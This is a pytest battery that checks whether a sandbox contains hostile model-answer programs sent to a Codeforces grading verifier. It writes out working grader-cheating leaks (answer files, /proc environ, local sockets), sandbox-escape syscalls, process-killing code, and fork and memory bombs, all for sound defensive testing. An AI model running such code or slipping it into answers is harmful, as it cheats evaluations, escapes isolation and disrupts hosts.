"""Hostile programs given as model answers to the Codeforces verifier: none is accepted,
none leaves a process, file, IPC segment, socket or cgroup behind, the caller survives,
and each returns within twice its wall limit.

Each program prints what an attack would get it: the test's stored answer (a random
token only the host knows: in a data file, the caller's environment, a socket server)
or ``ESCAPED`` where the expected answer is ``ESCAPED``. So "accepted" means the attack
worked. ``test_attacks_work_without_the_sandbox`` runs the information leaks in the
``unsafe`` mode (no isolation) and checks they ARE accepted there: the programs really
attack, and it is the sandbox that stops them.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import suites.easy2hard  # noqa: F401
from harness.sandbox import Sandbox, detect_level
from harness.types import Item
from suites.easy2hard.code import CodeforcesVerifier

LEVEL = detect_level()
pytestmark = pytest.mark.skipif(
    LEVEL is None, reason="no bubblewrap + seccomp isolation here (apt-get install bubblewrap; "
                          "CI installs it): generated code would be refused")

ROOT = Path(__file__).resolve().parent.parent
SECRET = secrets.token_hex(16)
MARKER = f"genrank-hostile-{os.getpid()}-{secrets.token_hex(4)}"
CPU_S, WALL_S, MEMORY_MB = 2, 5, 256
SAMPLE = "easy2hard/E2H-Codeforces.sample.json"

# --- the programs -------------------------------------------------------------------------
# @NAME@ placeholders are filled from the host context (paths, ports, pids).

_LEAKS = {
    # walk the whole file system for a file holding this test's input; print its answer
    "walk_fs_for_test_data": r"""
import os, re, sys
q = sys.stdin.read().strip().encode()
for root, dirs, files in os.walk('/'):
    if root.startswith(('/proc', '/sys', '/dev')):
        dirs[:] = []
        continue
    for f in files:
        try:
            data = open(os.path.join(root, f), 'rb').read(1 << 24)
        except OSError:
            continue
        if q in data:
            m = re.search(rb'"answers": \["([^"]+)"', data)
            if m:
                print(m.group(1).decode())
                sys.exit(0)
""",
    # the attacker knows where the data lies: read it directly
    "read_known_data_path": r"""
import json, sys
q = sys.stdin.read().strip()
for path in ['@DATA@', '@CF_SAMPLE@']:
    try:
        tests = json.load(open(path))
    except (OSError, ValueError):
        continue
    for t in (tests if isinstance(tests, list) else [tests]):
        for i, a in zip(t.get('inputs', []), t.get('answers', [])):
            if i.replace('\r\n', '\n').strip() == q:
                print(a)
                sys.exit(0)
""",
    "read_repository": r"""
import hashlib
print(hashlib.sha256(open('@REPO@/README.md', 'rb').read()).hexdigest())
""",
    "environment_secret": r"""
import os
print(os.environ.get('GENRANK_HOSTILE_SECRET', 'none'))
""",
    # the caller's environment and root through the host's /proc
    "host_proc": r"""
import os
for pid in ['@PID@', '@PPID@'] + os.listdir('/proc'):
    for path in ('/proc/%s/environ' % pid, '/proc/%s/root@DATA@' % pid,
                 '/proc/%s/cwd/README.md' % pid):
        try:
            data = open(path, 'rb').read()
        except OSError:
            continue
        for part in data.split(b'\0'):
            if part.startswith(b'GENRANK_HOSTILE_SECRET='):
                print(part.split(b'=', 1)[1].decode()); raise SystemExit
        if b'@SECRET_PREFIX@' in data:
            i = data.index(b'@SECRET_PREFIX@')
            print(data[i:i + 32].decode()); raise SystemExit
""",
    "host_unix_socket": r"""
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('@UNIX_PATH@')
print(s.recv(100).decode())
""",
    "abstract_unix_socket": r"""
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('\0@MARKER@')
print(s.recv(100).decode())
""",
    "tcp_to_host": r"""
import socket
print(socket.create_connection(('127.0.0.1', @PORT@), timeout=2).recv(100).decode())
""",
    # no Python socket module: libc syscalls through ctypes
    "raw_syscall_network": r"""
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(41, 2, 1, 0)                      # socket(AF_INET, SOCK_STREAM)
addr = struct.pack('<H', 2) + struct.pack('>H', @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
rc = libc.syscall(42, fd, addr, len(addr))          # connect
buf = ctypes.create_string_buffer(100)
n = libc.syscall(0, fd, buf, 100)                   # read
print(buf.raw[:max(n, 0)].decode() if rc == 0 else 'errno %d' % ctypes.get_errno())
""",
}

_ESCAPES = {
    "user_namespace": r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ok = [libc.unshare(f) == 0 for f in (0x10000000, 0x00020000, 0x40000000, 0x20000000)]
ok.append(libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) > 0)   # clone(CLONE_NEWUSER)
fd = os.open('/proc/1/ns/user', os.O_RDONLY) if os.path.exists('/proc/1/ns/user') else -1
ok.append(fd >= 0 and libc.setns(fd, 0) == 0)
print('ESCAPED' if any(ok) else 'held')
""",
    "ptrace_and_memory_of_others": r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ok = [libc.ptrace(16, 1, 0, 0) == 0, libc.ptrace(16, os.getppid(), 0, 0) == 0]
child = os.fork()
if child == 0:
    import time; time.sleep(5); os._exit(0)
ok.append(libc.ptrace(16, child, 0, 0) == 0)          # PTRACE_ATTACH a child of its own
for path in ('/proc/1/mem', '/proc/1/environ'):
    try:
        open(path, 'rb').read(1); ok.append(True)
    except OSError:
        pass
print('ESCAPED' if any(ok) else 'held')
""",
    "mount_keyctl_bpf_perf_iouring": r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(128)
calls = [libc.mount(b'none', b'/tmp', b'tmpfs', 0, None),
         libc.syscall(250, 0, 0, 0, 0, 0),             # keyctl(KEYCTL_GET_KEYRING_ID)
         libc.syscall(321, 0, attr, 128),              # bpf(BPF_MAP_CREATE)
         libc.syscall(298, attr, 0, -1, -1, 0),        # perf_event_open
         libc.syscall(425, 8, attr),                   # io_uring_setup
         libc.syscall(155, b'/tmp', b'/tmp')]          # pivot_root
print('ESCAPED' if any(c >= 0 for c in calls) else 'held')
""",
    "memfd_beyond_limit": r"""
import os
fd = os.memfd_create('x')
os.ftruncate(fd, 1 << 30)
for _ in range(@MEMORY_MB@ * 2):
    os.write(fd, b'x' * (1 << 20))
print('ESCAPED')
""",
    "sysv_shm_segment": r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
shm = libc.shmget(0x5eed, 512 << 20, 0o1666)          # IPC_CREAT, 512 MiB, kept on exit
if shm >= 0:
    libc.shmat.restype = ctypes.c_void_p
    addr = libc.shmat(shm, None, 0)
    ctypes.memset(addr, 1, 512 << 20)
print('ESCAPED' if shm >= 0 else 'held')
""",
    "dev_shm_and_tmp_fill": r"""
import os
held = 0
for d in ('/dev/shm', '/tmp'):
    for i in range(64):
        try:
            with open('%s/f%d' % (d, i), 'wb') as f:
                f.write(b'x' * (8 << 20))
            held += 8
        except OSError:
            break
print('ESCAPED' if held > @MEMORY_MB@ + 64 else 'held %d' % held)
""",
    "write_outside_temp_dir": r"""
import os
hits = []
for p in ['@OUTSIDE@', '@REPO@/@MARKER@', '/tmp/../@MARKER@', '/@MARKER@', '/dev/@MARKER@',
          '/proc/sys/kernel/hostname', os.path.dirname(os.__file__) + '/@MARKER@',
          os.path.dirname(os.__file__) + '/site-packages/@MARKER@']:
    try:
        with open(p, 'w') as f:
            f.write('x')
        hits.append(p)
    except OSError:
        pass
print('ESCAPED' if hits else 'held')
""",
    "signal_the_caller": r"""
import os, signal
hits = []
for pid in (@PID@, @CANARY@, os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
        hits.append(pid)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
print('ESCAPED' if set(hits) & {@PID@, @CANARY@} else 'held')
""",
}

_RESOURCES = {
    "fork_bomb": r"""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "thread_bomb": r"""
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        pass
""",
    "double_forking_daemon": r"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(120)', '@MARKER@'])
    os._exit(0)
print('parent done')
""",
    "huge_output": r"""
import sys
while True:
    sys.stdout.write('x' * 65536)
""",
    "memory_bomb": r"""
x = []
while True:
    x.append(' ' * 10 ** 7)
""",
    "memory_across_processes": r"""
import os, time
for _ in range(12):
    if os.fork() == 0:
        b = bytearray(150 << 20)
        for i in range(0, len(b), 4096):
            b[i] = 1
        time.sleep(30)
        os._exit(0)
time.sleep(30)
""",
    "sleep_past_wall_limit": r"""
import time
time.sleep(3600)
""",
}

PROGRAMS = {**_LEAKS, **_ESCAPES, **_RESOURCES}


# --- the host context: data, servers, a canary ----------------------------------------------

class Host:
    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.data = tmp / "cf_tests.json"
        self.outside = tmp / f"{MARKER}-outside"
        self.unix_path = str(tmp / "s.sock")
        self.input = f"{MARKER} 3 4"
        self.data.write_text(json.dumps({"inputs": [self.input], "answers": [SECRET]}))
        self._servers = []
        tcp = socket.socket()
        tcp.bind(("127.0.0.1", 0))
        self.port = tcp.getsockname()[1]
        unix = socket.socket(socket.AF_UNIX)
        unix.bind(self.unix_path)
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind("\0" + MARKER)
        for srv in (tcp, unix, abstract):
            srv.listen(8)
            srv.settimeout(0.2)
            self._servers.append(srv)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()
        self.canary = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])

    def _serve(self) -> None:
        while not self._stop.is_set():
            for srv in self._servers:
                try:
                    conn, _ = srv.accept()
                except OSError:
                    continue
                conn.sendall(SECRET.encode())
                conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        for srv in self._servers:
            srv.close()
        self.canary.kill()
        self.canary.wait()

    def source(self, name: str) -> str:
        text = PROGRAMS[name]
        for key, value in {"@DATA@": str(self.data), "@OUTSIDE@": str(self.outside),
                           "@REPO@": str(ROOT), "@PID@": str(os.getpid()),
                           "@PPID@": str(os.getppid()), "@CANARY@": str(self.canary.pid),
                           "@UNIX_PATH@": self.unix_path, "@PORT@": str(self.port),
                           "@MARKER@": MARKER, "@SECRET_PREFIX@": SECRET[:12],
                           "@MEMORY_MB@": str(MEMORY_MB),
                           "@CF_SAMPLE@": os.path.join(os.environ["GENRANK_DATA"], SAMPLE),
                           }.items():
            text = text.replace(key, value)
        return text

    def item(self, name: str) -> Item:
        """The test case the program is judged on: its answer is what the attack yields."""
        if name == "read_repository":
            answer = hashlib.sha256((ROOT / "README.md").read_bytes()).hexdigest()
        elif name in _ESCAPES:
            answer = "ESCAPED"
        else:
            answer = SECRET
        return Item(name, {"tests": {"inputs": [self.input], "answers": [answer]}}, "",
                    {"needs_checker": False})


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    h = Host(tmp_path_factory.mktemp("hostile"))
    yield h
    h.close()


@pytest.fixture
def verifier(monkeypatch) -> CodeforcesVerifier:
    monkeypatch.setenv("GENRANK_HOSTILE_SECRET", SECRET)
    return CodeforcesVerifier(cpu_s=CPU_S, wall_s=WALL_S, memory_mb=MEMORY_MB)


# --- what must not be left behind ----------------------------------------------------------

def _descendants() -> set[int]:
    """Live processes below this one (a box not ended would show here)."""
    out, todo = set(), [os.getpid()]
    while todo:
        p = todo.pop()
        try:
            for task in os.listdir(f"/proc/{p}/task"):
                kids = Path(f"/proc/{p}/task/{task}/children").read_text().split()
                todo += [int(k) for k in kids]
                out.update(int(k) for k in kids)
        except OSError:
            pass
    return out


def _marked_processes() -> set[int]:
    out = set()
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if MARKER.encode() in Path(f"/proc/{p}/cmdline").read_bytes():
                    out.add(int(p))
            except OSError:
                pass
    return out


def _ipc() -> set[str]:
    out = set()
    for kind in ("shm", "msg", "sem"):
        try:
            out.update(f"{kind}:{line.split()[1]}" for line in
                       Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:])
        except OSError:
            pass
    return out


def _cgroups() -> set[str]:
    found = set()
    for base in Path("/sys/fs/cgroup").glob("**/genrank-sbx-*"):
        if base.name.startswith(f"genrank-sbx-{os.getpid()}-"):
            found.add(str(base))
    return found


def _files(host: Host) -> set[str]:
    places = [Path("/tmp"), Path("/dev/shm"), ROOT, Path("/"), host.tmp]
    return {str(p) for d in places if d.exists() for p in d.iterdir()
            if MARKER in p.name or p.name.startswith("genrank-sbx")}


def _unix_sockets() -> set[str]:
    try:
        return {line for line in Path("/proc/net/unix").read_text().splitlines()
                if MARKER in line}
    except OSError:
        return set()


def _state(host: Host) -> dict:
    return {"ipc": _ipc(), "files": _files(host), "sockets": _unix_sockets()}


# --- the battery ------------------------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(PROGRAMS))
def test_hostile_program_is_contained(name, host, verifier):
    if name == "memory_across_processes" and LEVEL != "bwrap-cgroup":
        pytest.skip("memory summed over processes is bounded only by a cgroup (nproc x "
                    "RLIMIT_AS without one)")
    before = _state(host)
    kids_before = _descendants()
    t0 = time.perf_counter()
    (score,) = verifier.score_many([f"```python\n{host.source(name)}\n```"], [host.item(name)])
    elapsed = time.perf_counter() - t0
    verdict = score.detail["verdict"]
    assert verdict != "accepted" and score.value == 0.0, (name, score.detail)
    assert score.detail["sandbox_mode"] == LEVEL
    assert elapsed < 2 * WALL_S, (name, elapsed, verdict)
    time.sleep(0.2)  # processes killed by the kernel may take a moment to be reaped
    assert _descendants() <= kids_before, name  # no box, no program left under us
    assert not _marked_processes(), name        # nor anywhere on the host
    assert not _cgroups(), name
    assert _state(host) == before, name         # no segment, file or socket left
    assert host.canary.poll() is None, name     # the host's processes live on
    if name == "walk_fs_for_test_data":  # it walked everything it could see, found nothing
        assert verdict == "wrong_answer", score.detail
    if name in _RESOURCES:  # each resource attack ends in the verdict of its limit
        assert verdict in {"fork_bomb": ("time_limit", "wall_time_limit", "runtime_error"),
                           "thread_bomb": ("time_limit", "wall_time_limit", "runtime_error",
                                           "memory_limit"),
                           "double_forking_daemon": ("wrong_answer",),
                           "huge_output": ("output_limit",),
                           "memory_bomb": ("memory_limit",),
                           "memory_across_processes": ("memory_limit", "runtime_error",
                                                       "wall_time_limit"),
                           "sleep_past_wall_limit": ("wall_time_limit",)}[name], verdict


def test_the_battery_is_big_enough():
    assert len(PROGRAMS) >= 20


def test_real_codeforces_answers_stay_hidden(host, verifier, data_file):
    """The issue's attack on the real data: find the sample file, match stdin to a stored
    test, print its answer. Accepted without the sandbox (the control), not with it."""
    from suites.easy2hard.loaders import _read_file, rows_to_items

    items = rows_to_items(_read_file(data_file(SAMPLE)), "E2H-Codeforces", "rating")
    item = next(i for i in items if i.id == "1031A")
    item = Item(item.id, {**item.fields, "tests": {k: v[:3] for k, v in
                                                   item.fields["tests"].items()}},
                item.target, item.meta)
    program = f"```python\n{host.source('read_known_data_path')}\n```"
    (boxed,) = verifier.score_many([program], [item])
    assert boxed.detail["verdict"] != "accepted"
    open_ = CodeforcesVerifier(cpu_s=CPU_S, wall_s=WALL_S, memory_mb=MEMORY_MB)
    open_._sandbox = Sandbox(open_.limits, mode="unsafe")
    (unboxed,) = open_.score_many([program], [item])
    assert unboxed.detail["verdict"] == "accepted"


CONTROL = ["read_known_data_path", "read_repository", "host_proc", "host_unix_socket",
           "abstract_unix_socket", "tcp_to_host", "raw_syscall_network"]


def test_attacks_work_without_the_sandbox(host, verifier):
    """The same leaks in ``unsafe`` mode (no isolation) ARE accepted: the battery attacks
    for real, and the sandbox is what stops it."""
    verifier._sandbox = Sandbox(verifier.limits, mode="unsafe")
    scores = verifier.score_many([f"```python\n{host.source(n)}\n```" for n in CONTROL],
                                 [host.item(n) for n in CONTROL])
    assert {n: s.detail["verdict"] for n, s in zip(CONTROL, scores)} == {
        n: "accepted" for n in CONTROL}

